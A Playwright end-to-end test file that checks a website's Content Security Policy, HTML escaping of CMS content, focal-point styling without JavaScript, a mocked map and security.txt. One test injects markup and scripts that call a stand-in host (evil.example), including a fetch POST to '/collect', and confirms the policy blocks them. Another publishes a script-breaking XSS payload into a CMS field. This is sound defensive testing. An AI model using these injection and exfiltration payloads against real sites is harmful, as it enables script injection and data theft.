import type { APIRequestContext } from '@playwright/test'
import { SITE_PATHS } from '#shared/site-paths.gen.ts'
import { publishField } from '#tests/setup/contentful/publish-field.ts'
import { expect, REDUCED_MOTION, test } from '#tests/setup/e2e/fixtures.ts'
import { mockGoogleMaps } from '#tests/setup/e2e/mock-google-maps.ts'
import { mockOtherHosts } from '#tests/setup/e2e/mock-other-hosts.ts'
import { REBUILD_TIMEOUT, waitForRebuild } from '#tests/setup/e2e/wait-for-rebuild.ts'

test.use(REDUCED_MOTION)
test.beforeEach(({ context }) => mockOtherHosts(context))

const fetchPolicy = async (request: APIRequestContext, path: string) =>
  (await request.get(path, { headers: { accept: 'text/html' } })).headers()['content-security-policy'] ?? ''

for (const path of SITE_PATHS) {
  test(`${path} has no style attributes, one inline script, and a policy that allows no other`, async ({ page }) => {
    const policy = await fetchPolicy(page.request, path)
    expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'sha256-[\w+/]{43}='/)
    expect(policy).toContain("style-src-attr 'none'")
    expect(policy).not.toMatch(/unsafe|script-src[^;]*(data:|blob:|nonce-)/)
    const html = await (await page.request.get(path)).text()
    const inline = await page.evaluate((source) => {
      const parsed = new DOMParser().parseFromString(source, 'text/html')
      const handlers = [...parsed.querySelectorAll('*')].flatMap((element) =>
        element.getAttributeNames().filter((name) => name === 'style' || name.startsWith('on')),
      )
      return { handlers, scripts: parsed.querySelectorAll('script:not([src], [type])').length }
    }, html)
    expect(inline).toEqual({ handlers: [], scripts: 1 })
  })
}

test.describe('HTML that is injected into a page', () => {
  test.use({ expectedViolations: /./, expectedProblems: /Content Security Policy|evil\.example/ })

  test('runs no script, applies no styles and requests no other host', async ({ page, ready }) => {
    await page.goto('/contact')
    await ready()
    const blocked = page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          const directives: string[] = []
          addEventListener('securitypolicyviolation', ({ disposition, effectiveDirective }) => {
            if (disposition === 'enforce') directives.push(effectiveDirective)
            if (directives.length === 8) resolve(directives.sort())
          })
        }),
    )
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<p id="injected" style="color: rgb(1, 2, 3)" onclick="Object.assign(window, { injected: 'handler' })">Injected</p>
         <style>#injected { color: rgb(3, 2, 1) }</style>
         <img src="https://evil.example/pixel" alt="">
         <iframe src="https://evil.example/frame" title="Injected"></iframe>`,
      )
      document.getElementById('injected')?.click()
      for (const attributes of [{ text: "injected = 'text'" }, { src: 'https://evil.example/script.js' }])
        document.head.append(Object.assign(document.createElement('script'), attributes))
      fetch('https://evil.example/collect', { method: 'POST' }).catch(() => {})
    })
    expect(await blocked).toEqual([
      'connect-src',
      'frame-src',
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ])
    expect(await page.evaluate(() => Reflect.get(window, 'injected'))).not.toBe('handler')
  })
})

test('a rebuilt page keeps its policy', async ({ page, management, site }) => {
  const fetchHtml = async () => (await page.request.get('/gallery')).text()
  const fetchPolicies = () => Promise.all(SITE_PATHS.map((path) => fetchPolicy(page.request, path)))
  const before = await fetchPolicies()
  const title = await publishField(management, 'gallery-page', 'gridTitle', '</script><script>alert("Along the line")')
  try {
    await expect.poll(fetchHtml, REBUILD_TIMEOUT).toContain('Along the line')
    expect(await fetchPolicies()).toEqual(before)
    await page.goto('/gallery')
    await expect(page.getByRole('heading', { name: 'Along the line' })).toBeVisible()
  } finally {
    await publishField(management, 'gallery-page', 'gridTitle', title)
  }
  await waitForRebuild(site.url)
})

test('focal point and placeholder colour are applied without JavaScript', async ({
  page,
  management,
  site,
  browser,
}) => {
  const before = await publishField(management, 'hero-services', 'focalPoint', '25% 100%')
  try {
    const fetchHtml = async () => (await page.request.get('/services')).text()
    await expect.poll(fetchHtml, REBUILD_TIMEOUT).toContain('data-focus="2-5 10-0"')
    const context = await browser.newContext({ javaScriptEnabled: false, baseURL: site.url })
    const pageWithoutScripts = await context.newPage()
    await pageWithoutScripts.goto('/services')
    const poster = pageWithoutScripts.locator('main img').first()
    await expect(poster).toHaveCSS('object-position', '25% 100%')
    await expect(pageWithoutScripts.locator('main video')).toHaveCSS('object-position', '25% 100%')
    await expect(poster).toHaveCSS('background-color', /^rgb\((?:\d+, ){2}\d+\)$/)
    await context.close()
  } finally {
    await publishField(management, 'hero-services', 'focalPoint', before ?? null)
  }
  await waitForRebuild(site.url)
})

test.describe('the map', () => {
  test.use({ googleMap: 'mocked' })

  test('adds styles with the nonce of the page', async ({ page }) => {
    await mockGoogleMaps(page)
    await page.goto('/contact')
    await page.getByRole('contentinfo').scrollIntoViewIfNeeded()
    await expect(page.getByRole('region', { name: 'Map of the office' })).toBeVisible()
    await expect(page.locator('.gm-style').first()).toHaveCSS('outline-style', 'dashed')
  })
})

test('security.txt contains the email address of the CMS and the URL of the site', async ({ page, site }) => {
  const response = await page.request.get('/.well-known/security.txt')
  expect(response.headers()['content-type']).toBe('text/plain; charset=utf-8')
  const text = await response.text()
  expect(text).toContain('Contact: mailto:office@blackland.example\n')
  expect(text).toContain(`Canonical: ${site.url}/.well-known/security.txt\n`)
  const [, expires = ''] = /^Expires: (.*)$/m.exec(text) ?? []
  expect(Date.parse(expires)).toBeGreaterThan(Date.now())
})
